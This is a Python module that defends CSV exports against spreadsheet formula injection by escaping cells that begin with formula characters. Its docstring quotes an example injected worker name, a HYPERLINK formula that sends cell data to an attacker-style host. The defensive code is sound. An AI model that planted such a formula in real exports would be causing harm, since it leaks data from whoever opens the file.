"""CSV that is safe to open in a spreadsheet: every export writes through `safe_writer`.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return) as a formula, so a worker named `=HYPERLINK("http://evil.example/?"&A2)`
would run in the payroll clerk's spreadsheet. Such a cell is written with a leading
apostrophe, which spreadsheets show as text and do not keep. A plain number (`-12.50`)
cannot be a formula and stays a number.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def neutralise(value: Any) -> Any:
    """The cell as text a spreadsheet will not run."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer with every cell neutralised."""

    def __init__(self, out: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(out: TextIO, **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)
